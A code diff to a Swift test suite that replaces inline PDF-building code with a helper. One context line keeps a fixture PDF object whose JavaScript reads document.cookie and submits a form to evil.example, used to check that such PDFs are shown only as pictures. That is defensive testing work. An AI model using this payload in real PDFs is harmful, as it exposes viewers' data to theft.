@@ -627,17 +627,7 @@ extension ServeTests {
             "<< /S /JavaScript /JS (app.alert\\(document.cookie\\); this.submitForm\\('http://evil.example/'\\);) >>",
             "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
         ]
-        var pdf = "%PDF-1.7\n"
-        var offsets: [Int] = []
-        for (index, object) in objects.enumerated() {
-            offsets.append(pdf.utf8.count)
-            pdf += "\(index + 1) 0 obj\n\(object)\nendobj\n"
-        }
-        let xref = pdf.utf8.count
-        pdf += "xref\n0 \(objects.count + 1)\n0000000000 65535 f \n"
-        for offset in offsets { pdf += String(format: "%010d 00000 n \n", offset) }
-        pdf += "trailer\n<< /Size \(objects.count + 1) /Root 1 0 R >>\nstartxref\n\(xref)\n%%EOF\n"
-        return Array(pdf.utf8)
+        return HandWrittenPDF.bytes(objects: objects, version: "1.7")
     }
 
     @Test func aPDFWithJavaScriptIsShownAsAPictureAndNeverAsAPDF() throws {
